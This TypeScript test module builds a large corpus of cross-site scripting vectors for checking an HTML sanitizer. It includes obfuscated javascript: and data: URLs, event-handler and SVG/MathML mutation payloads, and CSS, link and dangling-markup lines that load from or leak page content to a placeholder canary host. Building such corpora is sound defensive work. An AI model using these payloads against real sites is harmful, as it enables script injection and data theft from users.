/**
 * Markup that wants to run something, written for these tests. Where it succeeds it calls `ran(N)`, N being its number, or
 * asks for an address of `CANARY`; whoever uses it says what both are.
 */
const RUN = 'ran(0)';

const EVENTS =
  'load error click focus blur mouseover mousemove pointerenter animationstart animationend transitionend toggle begin end pageshow scroll wheel copy beforeinput input invalid submit reset beforetoggle contentvisibilityautostatechange scrollend message hashchange popstate unhandledrejection'.split(
    ' ',
  );
const HOLDERS = [
  'body',
  'img src=x',
  'svg',
  'svg><path',
  'math',
  'details open',
  'input autofocus',
  'video src=x',
  'audio src=x',
  'marquee',
  'x-tag style="animation:a"',
  'form',
  'select autofocus',
  'textarea autofocus',
  'iframe src=about:blank',
  'object data=x',
  'a href=# autofocus',
  'p tabindex=0 autofocus',
  'table',
  'td',
];

/** Ways to spell an address that runs; what is between the angle quotes stays as it is. */
const RUNNING_ADDRESSES = [
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  ' javascript:RUN',
  '\tjavascript:RUN',
  '\u00a0javascript:RUN',
  '&#1;javascript:RUN',
  '&#0000000106avascript:RUN',
  '&#x6a;avascript:RUN',
  '&#106avascript:RUN',
  'java\tscript:RUN',
  'java\nscript:RUN',
  'java&Tab;script:RUN',
  'java&NewLine;script&colon;RUN',
  'java&#0;script:RUN',
  'java\0script:RUN',
  '\0javascript:RUN',
  'javascript&#58;RUN',
  'javascript&#x0003a;RUN',
  'javascript&colon;RUN',
  'javascript://%0aRUN',
  'javascript:/*--></title></style></textarea></script><svg/onload=RUN>*/RUN',
  'javascript:%72%61%6e(0)',
  'javascript:void(RUN)',
  '\u2028javascript:RUN',
  '\ufeffjavascript:RUN',
  'jav\u00adascript:RUN',
  'vbscript:RUN',
  'livescript:RUN',
  'data:text/html,<script>parent.RUN</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKDApPC9zY3JpcHQ+',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>',
  'data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">RUN</script>',
  'blob:null/RUN',
  'filesystem:http://CANARY/x',
  'view-source:javascript:RUN',
  'jar:http://CANARY!/x',
  'feed:javascript:RUN',
  'http:javascript:RUN',
  'https:&NewLine;javascript:RUN',
  '//javascript:RUN',
];

const LINK_HOLDERS = [
  '<a href="HERE">x</a>',
  "<a href='HERE'>x</a>",
  '<a href="#" xlink:href="HERE">x</a>',
  '<svg><a xlink:href="HERE"><text y=20>x</text></a></svg>',
  '<math><mi href="HERE">x</mi></math>',
  '<form action="HERE"><input type=submit></form>',
  '<button formaction="HERE">x</button>',
  '<iframe src="HERE"></iframe>',
  '<img src="HERE">',
  '<area href="HERE">',
];

const RUNNING_LINKS = RUNNING_ADDRESSES.flatMap((address, at) =>
  [0, 1 + (at % (LINK_HOLDERS.length - 1))].map((which) => LINK_HOLDERS[which].replace('HERE', address)),
);

/** One vector a line. */
const OTHERS = `
<script>RUN</script>
<SCRIPT/x>RUN</SCRIPT >
<script type=module>RUN</script>
<script src=data:,RUN></script>
<script src=//CANARY/x.js></script>
<script
>RUN</script
>
<scr<script>ipt>RUN</script>
<<script>RUN//<</script>
<script>RUN<!-- --></script>
<script><!--<script></script>RUN</script>
<svg><script>RUN</script></svg>
<svg><script>&#114;an(0)</script></svg>
<svg><script href=data:,RUN /></svg>
<svg><script xlink:href="data:text/javascript,RUN"></script></svg>
<math><script>RUN</script></math>
<svg:script xmlns:svg=http://www.w3.org/2000/svg>RUN</svg:script>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script>
<img src=x onerror=RUN>
<img src=x onerror='RUN'//
<img/src="x"/onerror="RUN">
<img src=x onerror	=	RUN>
<img src=x o\0nerror=RUN onerror=RUN>
<img src=x:x onerror=&#114;an(0)>
<img src='x' onerror=RUN alt='
<img """><script>RUN</script>">
<img src=\`x\` onerror=\`RUN\`>
<img src=x alt="\`onerror=RUN//\`">
<img alt='"><img src=x onerror=RUN>'>
<img title="--><img src=x onerror=RUN>" src=x>
<img src=x onerror=RUN
<image src=x onerror=RUN>
<p title='"><script>RUN</script>'>x</p>
<p title="</p><script>RUN</script>">x</p>
<a href="https://site.example/&quot;><script>RUN</script>">x</a>
<a href='https://site.example/"onmouseover="RUN'>x</a>
<a href="https://site.example/' onclick='RUN">x</a>
<a href="//site.example\\"><img src=x onerror=RUN>">x</a>
<a href=https://site.example/ onclick=RUN ping=http://CANARY/ping target=_top>x</a>
<a/href=javascript:RUN>x</a>
<a href="javascript:RUN" href="https://site.example/">x</a>
<a href="https://site.example/" href="javascript:RUN">x</a>
<a style="animation:a" onanimationstart=RUN>x</a><style>@keyframes a{}</style>
<a download=x href=data:text/html,RUN>x</a>
<svg onload=RUN>
<svg/onload=RUN>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set onbegin=RUN attributeName=x to=y>
<svg><a id=v><text y=9>x</text></a><animate href=#v attributeName=href values=javascript:RUN></svg>
<svg><a><animate attributeName=href from=javascript:RUN to=1 /><text y=9>x</text></a></svg>
<svg><set attributeName=onmouseover to=RUN><text y=9>x</text></svg>
<svg><animate xlink:href=#v attributeName=onclick values=RUN /></svg><p id=v>x</p>
<svg><animateTransform onbegin=RUN attributeName=transform /></svg>
<svg><discard onbegin=RUN></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=x onerror=RUN /></svg>#x"/></svg>
<svg><use xlink:href=//CANARY/x.svg#a /></svg>
<svg><image href=x onerror=RUN></svg>
<svg><image xlink:href=//CANARY/image /></svg>
<svg><feImage href=//CANARY/fe /></svg>
<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.RUN</script>"></iframe></foreignObject></svg>
<svg><title><img src=x onerror=RUN></title></svg>
<svg><desc><script>RUN</script></desc></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<svg><style>@import "//CANARY/svg.css";</style></svg>
<svg><handler type=text/javascript ev:event=load>RUN</handler></svg>
<svg><![CDATA[<img src=x onerror=RUN>]]></svg>
<svg><![CDATA[><img src=x onerror=RUN>]]></svg>
<![CDATA[><img src=x onerror=RUN>]]>
<![CDATA[<img src=x onerror=RUN>
<svg></p><style><a id="</style><img src=1 onerror=RUN>"></style></svg>
<svg><p><style><g title="</style><img src onerror=RUN>">
<svg></br><style><a title="</style><img src=x onerror=RUN>">
<svg><desc><noscript></desc><style><a title="</style><img src onerror=RUN>">
<svg><font color=x><style><a title="</style><img src onerror=RUN>">
<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=RUN>">
<math><mtext><table><mglyph><style><math><img src=x onerror=RUN></style></mglyph></table></mtext></math>
<math><mtext><mglyph><svg><mtext><style><path id="</style><img src onerror=RUN>">
<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img src onerror=RUN>">
<math><mi><mglyph></mi><style><img src=x onerror=RUN></style></math>
<math><annotation-xml encoding=text/html><style><img src=x onerror=RUN></style></annotation-xml></math>
<math><annotation-xml encoding="text/html"><svg><script>RUN</script></svg></annotation-xml></math>
<math><annotation-xml><foreignObject><style><!--</style><p title="--><img src onerror=RUN>">
<math><maction actiontype=statusline xlink:href=javascript:RUN>x</maction></math>
<math><ms><b><mglyph><style><!--</style><a title="--><img src=1 onerror=RUN>">
<math href="javascript:RUN"><mtext>x</mtext></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN></style></form>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src onerror=RUN>">
<table><math><style></table><img src=x onerror=RUN></style></math>
<table><td><svg><desc><td><style><a title="</style><img src=x onerror=RUN>">
<table><caption><svg><title><caption><style><a id="</style><img src=x onerror=RUN>">
<table><select><tr><td><img src=x onerror=RUN>
<table><style><!--</style><tr><td title="--><img src=x onerror=RUN>">
<table background=//CANARY/table><td background=javascript:RUN>x</table>
<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>
<noscript><style></noscript><img src=x onerror=RUN></style></noscript>
<noscript><!--</noscript><img src=x onerror=RUN>--></noscript>
<noscript><textarea></noscript><img src=x onerror=RUN></textarea>
<noembed><img title="</noembed><img src=x onerror=RUN>"></noembed>
<noframes><p title="</noframes><img src=x onerror=RUN>"></noframes>
<iframe><p title="</iframe><img src=x onerror=RUN>"></iframe>
<textarea><img title="</textarea><img src=x onerror=RUN>"></textarea>
<textarea></textarea><img src=x onerror=RUN></textarea>
<textarea><svg onload=RUN>
<title><img title="</title><img src=x onerror=RUN>"></title>
<title></title><img src=x onerror=RUN></title>
<xmp><p title="</xmp><svg/onload=RUN>"></xmp>
<xmp><img src=x onerror=RUN></xmp>
<plaintext><img src=x onerror=RUN>
<listing>&lt;img src=x onerror=RUN&gt;</listing>
<pre>&lt;script&gt;RUN&lt;/script&gt;</pre>
&lt;img src=x onerror=RUN&gt;
&amp;lt;img src=x onerror=RUN&amp;gt;
<style><p title="</style><img src=x onerror=RUN>"></style>
<style><!--</style><script>RUN</script>--></style>
<style>a{content:"</style><img src=x onerror=RUN>"}</style>
<style>@import "//CANARY/import.css";</style>
<style>body{background:url(//CANARY/css)}</style>
<style>body{background:url("javascript:RUN")}</style>
<style>@font-face{font-family:x;src:url(//CANARY/font)}*{font-family:x}</style>
<style>input[value^=a]{background:url(//CANARY/a)}</style><input value=a>
<style>*{x:expression(RUN);behavior:url(//CANARY/x.htc);-moz-binding:url(//CANARY/x.xml)}</style>
<style>p{background:\\75\\72\\6c(//CANARY/escaped)}</style><p>x</p>
<p style="background:url(//CANARY/attribute)">x</p>
<p style="background-image:image-set('//CANARY/set' 1x)">x</p>
<p style='background:url("//CANARY/q&quot;);x:y")'>x</p>
<p style="width:expression(RUN)">x</p>
<p style="position:fixed;inset:0;z-index:9999;background:red">x</p>
<link rel=stylesheet href=//CANARY/sheet.css>
<link rel=stylesheet href="javascript:RUN">
<link rel=import href=//CANARY/import.html><link rel=prefetch href=//CANARY/prefetch><link rel=preload as=script href=//CANARY/preload>
<link rel=modulepreload href=//CANARY/module.js onload=RUN onerror=RUN>
<link rel=prerender href=//CANARY/prerender><link rel=dns-prefetch href=//CANARY><link rel=preconnect href=//CANARY>
<meta http-equiv=refresh content="0;url=//CANARY/refresh">
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv=refresh content="0;url=data:text/html,<script>RUN</script>">
<meta http-equiv=Content-Security-Policy content="script-src *"><meta http-equiv=set-cookie content=a=b>
<meta charset=utf-7>+ADw-script+AD4-RUN+ADw-/script+AD4-
+ADw-img src=x onerror=RUN+AD4-
\u001b$B<img src=x onerror=RUN>\u001b(B
\u00bcscript\u00beRUN\u00bc/script\u00be
\uff1cscript\uff1eRUN\uff1c/script\uff1e
%3Cscript%3ERUN%3C/script%3E
\\u003cscript\\u003eRUN\\u003c/script\\u003e
<base href=//CANARY/><img src=base.png><a href=x>x</a>
<base href="javascript:RUN//"><a href=x>x</a>
<base target=_top><a href="javascript:RUN">x</a>
<iframe src=//CANARY/frame></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.RUN&gt;"></iframe>
<iframe src=javascript:parent.RUN></iframe>
<iframe onload=RUN></iframe>
<iframe src="data:text/html,<script>parent.RUN</script>" sandbox="allow-scripts allow-same-origin"></iframe>
<iframe name=alert src=about:blank></iframe>
<frameset onload=RUN><frame src=//CANARY/f></frameset>
<frameset><frame src=javascript:parent.RUN></frameset>
<object data="data:text/html,<script>parent.RUN</script>"></object>
<object data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.RUN'/>"></object>
<object data=//CANARY/object type=text/html><param name=src value=javascript:RUN></object>
<object onerror=RUN data=x></object>
<embed src=//CANARY/embed><embed src=javascript:RUN type=text/html>
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.RUN'/>">
<applet code=x archive=//CANARY/x.jar></applet><bgsound src=//CANARY/bg><layer src=//CANARY/layer></layer>
<portal src=//CANARY/portal></portal><fencedframe src=//CANARY/fenced></fencedframe>
<video src=x onerror=RUN></video>
<video><source onerror=RUN src=x></video>
<video poster=//CANARY/poster><track src=//CANARY/track default onerror=RUN></video>
<audio src=//CANARY/audio autoplay onerror=RUN></audio>
<picture><source srcset=//CANARY/source><img src=x onerror=RUN></picture>
<img srcset="//CANARY/srcset 1x" src=x onerror=RUN>
<img src=x lowsrc=javascript:RUN dynsrc=javascript:RUN>
<img usemap=#m src=x><map name=m><area shape=default href=javascript:RUN></map>
<input type=image src=x onerror=RUN>
<input autofocus onfocus=RUN>
<input onblur=RUN autofocus><input autofocus>
<input type=hidden accesskey=x onclick=RUN>
<select autofocus onfocus=RUN><option>x</select>
<select><option><img src=x onerror=RUN></option></select>
<select><template><img src=x onerror=RUN></template></select>
<select><svg><style><img src=x onerror=RUN></style></svg></select>
<option><style></option></select><img src=x onerror=RUN></style>
<selectedcontent><img src=x onerror=RUN></selectedcontent>
<button autofocus onfocus=RUN popovertarget=p>x</button><p popover id=p onbeforetoggle=RUN>y</p>
<button form=f formaction=javascript:RUN>x</button><form id=f></form>
<form action=//CANARY/form><input name=a value=b autofocus></form>
<form action=javascript:RUN><button>x</button></form>
<form><input name=action><input name=attributes><input name=parentNode><input name=nodeName onfocus=RUN autofocus></form>
<form id=document><input name=body><input name=createElement></form>
<isindex type=image src=x onerror=RUN action=javascript:RUN>
<keygen autofocus onfocus=RUN>
<details open ontoggle=RUN>x</details>
<dialog open onclose=RUN oncancel=RUN>x</dialog>
<marquee onstart=RUN>x</marquee>
<marquee behavior=alternate loop=1 onbounce=RUN onfinish=RUN>x</marquee>
<meter onmouseover=RUN value=1>x</meter><progress onclick=RUN>x</progress>
<body onload=RUN onpageshow=RUN onfocus=RUN>
<body background=//CANARY/body onresize=RUN>
<html onmouseover=RUN manifest=//CANARY/manifest>
<p onmouseover=RUN style="position:fixed;inset:0">x</p>
<p contenteditable autofocus onfocus=RUN tabindex=0>x</p>
<p is=x-evil>x</p><x-evil onconnected=RUN>x</x-evil>
<template><script>RUN</script></template>
<template><img src=x onerror=RUN></template>
<template><template><p title="</template></template><img src=x onerror=RUN>"></template></template>
<div><template shadowrootmode=open><script>RUN</script><img src=x onerror=RUN></template></div>
<div><template shadowroot=closed><slot onslotchange=RUN></slot><style>@import "//CANARY/shadow.css"</style></template>x</div>
<slot onslotchange=RUN><img src=x onerror=RUN></slot>
<x-card><template shadowrootmode=closed shadowrootclonable><svg onload=RUN></template></x-card>
<!--><img src=x onerror=RUN>-->
<!---><img src=x onerror=RUN>-->
<!--a--!><img src=x onerror=RUN>-->
<!-- --!><script>RUN</script> -->
<!--[if gte IE 4]><script>RUN</script><![endif]-->
<!-- <!-- --><img src=x onerror=RUN> -->
<!a><img src=x onerror=RUN>
<!DOCTYPE x [<!ENTITY y "<img src=x onerror=RUN>">]>&y;
<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="//CANARY/x.xsl"?><img src=x onerror=RUN>
<?php echo '<img src=x onerror=RUN>' ?>
<%= '<img src=x onerror=RUN>' %>
</><img src=x onerror=RUN>
</ ><img src=x onerror=RUN>
</p/onclick=RUN><img src=x onerror=RUN>
<//img src=x onerror=RUN>
<p/><img/ /src=x/ /onerror=RUN>
<p
onmouseover
=
RUN
>x</p>
<\0script>RUN</\0script>
<s\0cript>RUN</s\0cript>
<img\0 src=x onerror=RUN>
<img\u000bsrc=x\u000bonerror=RUN>
<img\fsrc=x\fonerror=RUN>
<ımg src=x onerror=RUN><ſcript>RUN</ſcript>
<a\u00a0href="javascript:RUN">x</a>
<img src="//CANARY/dangling?
<a href='//CANARY/dangling?
<textarea name=//CANARY/dangling><p>
<button formaction='//CANARY/dangling?
<form action=//CANARY/dangling><textarea name=x>
<style>@import'//CANARY/dangling?
<p id=ran name=ran class=ran>x</p><img name=ran><form id=location></form>
<a id=defaultView name=top href="javascript:RUN">x</a><a id=defaultView>y</a>
<img name=currentScript><img name=currentScript src=x><form name=body></form><object id=head></object>
<p data-n=0 data-href=javascript:RUN data-anatome=open data-anatome-src=javascript:RUN>x</p>
<a data-n=1 data-href="javascript:RUN" href=#>x</a>
<img data-n=1 data-anatome-src=x onerror=RUN>
<p class="bar framed"><header class=bar><nav><a href=javascript:RUN>All versions</a></nav></header>
</iframe><script>RUN</script>
"></iframe><script>RUN</script>
</srcdoc></main></body></html><script>RUN</script>
</style><script>RUN</script>
</title></textarea></xmp></noscript><img src=x onerror=RUN>
]]><script>RUN</script>
';RUN;'
";RUN;"
\${RUN}{{RUN}}{{constructor.constructor('RUN')()}}<%RUN%>
javascript:RUN
x' onerror='RUN
x" onerror="RUN
<b><p><b><p><b><i><b><a href=javascript:RUN><b><p><img src=x onerror=RUN>
<a href=x><a href=javascript:RUN><table><a onclick=RUN><tr><td><a href=x onclick=RUN>
<p><svg><p><math><p><svg><p><img src=x onerror=RUN>
<svg><math><svg><math><mi><svg><desc><img src=x onerror=RUN>
<h1><h2><h3><button><button><img src=x onerror=RUN>
<nobr><nobr><nobr><b><nobr><img src=x onerror=RUN>
<li><dd><dt><option><optgroup><rp><rt><img src=x onerror=RUN>
<ruby><rt><svg><desc><rt><style><a title="</style><img src=x onerror=RUN>">
`;

const DEEP = [
  `${'<div>'.repeat(600)}<img src=x onerror=RUN>`,
  `${'<svg>'.repeat(600)}<style><img src=x onerror=RUN></style>`,
  `${'<b><p>'.repeat(300)}<script>RUN</script>`,
  `${'<table><tr><td>'.repeat(200)}<style><!--</style><a title="--><img src=x onerror=RUN>">`,
  `${'<form><div></form>'.repeat(300)}<math><mtext></form><form><mglyph><style></math><img src onerror=RUN>`,
  `<p ${'x'.repeat(50_000)}="><img src=x onerror=RUN>">`,
  `<p ${Array.from({ length: 2_000 }, (_, at) => `a${at}=1`).join(' ')} onmouseover=RUN>x`,
  `${'&#60;'.repeat(500)}img src=x onerror=RUN>`,
];

const HANDLERS = [
  ...HOLDERS.map((holder, at) => `<${holder} on${EVENTS[at % EVENTS.length]}=RUN>x`),
  ...EVENTS.map((event, at) => `<${HOLDERS[(7 * at + 1) % HOLDERS.length]} ON${event}="RUN" >x`),
];

const ALL: readonly string[] = [...toOthers(), ...DEEP, ...HANDLERS, ...RUNNING_LINKS];

/** Lines that begin with none of `<`, and follow a start tag that is still open, go on with it. */
function toOthers(): string[] {
  return OTHERS.trim().split(/\n(?!>|onmouseover|=|RUN|\(0\))/);
}

/** All of them, each with its number in what it runs; `canary` is a host and its port. */
export function collectVectors(canary: string): string[] {
  return ALL.map((vector, at) =>
    vector.replaceAll('RUN', RUN).replaceAll('ran(0)', `ran(${at})`).replaceAll('CANARY', canary),
  );
}
